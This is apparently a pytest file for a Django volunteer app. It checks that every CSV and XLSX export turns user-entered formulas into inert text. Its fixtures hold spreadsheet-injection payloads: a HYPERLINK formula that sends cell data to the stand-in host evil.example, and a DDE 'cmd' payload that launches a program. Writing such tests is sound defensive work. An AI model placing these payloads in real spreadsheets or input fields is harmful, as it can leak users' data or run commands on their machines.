"""Every CSV and XLSX the app writes shows a formula a user typed as text, never runs it.

The walk registers a volunteer through the page with a name that is a formula, gives
them hours at a station and an event whose names are formulas too, and opens every
export as whoever may download it.
"""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from core.exports import csv_text, safe_cell, xlsx_bytes
from tests.factories import VillageFactory
from tests.volunteers.factories import id_number, years_ago
from tests.volunteers.test_register import form_data
from volunteers.models import Volunteer

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
STATION = "+SUM(1,1)"
PROGRAM = "@SUM(1,1)"
EVENT = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("a=1", "a=1"),
        ("-30", "-30"),
        ("+8613600000001", "+8613600000001"),
        ("-0.5", "-0.5"),
        (-30, -30),
        (None, None),
        (date(2026, 11, 1), date(2026, 11, 1)),
    ],
)
def test_a_cell_that_would_run_is_made_text_and_figures_stay_figures(value, safe):
    assert safe_cell(value) == safe


def test_csv_text_is_excel_ready_and_safe():
    text = csv_text([["姓名", "分钟"], ["=1+1", -30]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["姓名", "分钟"],
        ["'=1+1", "-30"],
    ]


def test_xlsx_bytes_stores_a_formula_as_text():
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"表": [["=1+1", 5, "-30"]]})))
    cells = next(book.worksheets[0].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), (5, "n"), ("-30", "s")]


# --- The walk over every export ------------------------------------------------------------


@pytest.fixture
def world(pingshan, client, submit, unit, login):
    """A volunteer who registered through the page as ``NAME``, approved by the office,
    with approved hours at ``STATION`` (program ``PROGRAM``) and an event ``EVENT``."""
    from ledger.services import claim_approve

    village = VillageFactory(parent=pingshan.xibaipo, code="130131110201", name="西柏坡村")
    data = form_data(village, name=NAME, id_number=id_number(years_ago(30), seq=77))
    assert client.post(reverse("volunteers:register"), data).status_code == 302
    volunteer = Volunteer.objects.get(user__mobile=data["mobile"])
    assert volunteer.user.name == NAME
    approve = reverse("volunteers:action", args=[volunteer.pk, "approve"])
    assert login(pingshan.township_office).post(approve).status_code == 302
    pingshan.station.name = unit.name = STATION
    pingshan.station.save()
    unit.save()
    claim = submit(90, volunteer=volunteer.user, on=date(2026, 11, 3))
    claim.program_name = PROGRAM
    claim.save(update_fields=["program_name"])
    claim_approve(claim=claim, actor=pingshan.manager)
    _held_event(pingshan)
    return volunteer


def _held_event(pingshan):
    from core.roles import Role
    from events.services import event_close, event_create, event_publish, venue_ensure
    from tests.events.conftest import at
    from tests.factories import UserFactory

    organizer = UserFactory.with_role(Role.EVENT_ORGANIZER)
    venue = venue_ensure(name="广场", region=pingshan.xibaipo, capacity=100)
    starts = at(2026, 11, 5, 19)
    event = event_create(organizer=organizer, kind="performance", title=EVENT, venue=venue,
                         starts_at=starts, ends_at=starts + timedelta(hours=2))  # fmt: skip
    event_publish(event=event, actor=organizer, override_reason="")
    event_close(event=event, actor=organizer, actual_audience=50)


def cells(response) -> list:
    """Every cell of a CSV or XLSX download, as a spreadsheet program would read it."""
    if "spreadsheetml" in response["Content-Type"]:
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(response.content))
        return [c.value for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    text = response.content.decode("utf-8-sig")
    return [value for values in csv.reader(io.StringIO(text)) for value in values]


def exports(pingshan, volunteer):
    """(who, url, the hostile text it must hold) for every CSV and XLSX download."""
    period = "kind=year&year=2026&number=1"
    for fmt in ("csv", "xlsx"):
        yield pingshan.township_office, f"/volunteers/?_export={fmt}", NAME
        yield volunteer.user, f"/ledger/mine/?_export={fmt}", STATION
        yield pingshan.county_office, f"/ledger/entries/?_export={fmt}", NAME
        yield (
            pingshan.county_office,
            f"/reports/county/?{period}&table=station&_export={fmt}",
            STATION,
        )
        yield (
            pingshan.county_office,
            f"/reports/county/?{period}&table=program&_export={fmt}",
            PROGRAM,
        )
        yield pingshan.county_office, f"/reports/county/?{period}&table=events&_export={fmt}", EVENT
    yield volunteer.user, "/me/data.csv", NAME


def test_every_export_shows_formulas_as_text(world, pingshan, login):
    volunteer = Volunteer.objects.get(pk=world.pk)
    wrong = []
    for user, url, hostile in exports(pingshan, volunteer):
        response = login(user).get(url)
        assert response.status_code == 200, url
        found = cells(response)
        if "'" + hostile not in found:
            wrong.append(f"{url}: {hostile!r} missing or not neutralised")
        wrong += [f"{url}: {value!r}" for value in found if safe_cell(value) != value]
    assert wrong == []


def test_an_export_format_other_than_csv_or_xlsx_is_not_offered(world, pingshan, login):
    response = login(pingshan.county_office).get("/ledger/entries/?_export=yaml")
    assert response["Content-Type"].startswith("text/html")


def test_a_timestamped_export_is_named_by_the_local_date(world, pingshan, login):
    response = login(pingshan.county_office).get("/ledger/entries/?_export=csv")
    stamp = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="ledger-{stamp}.csv"'
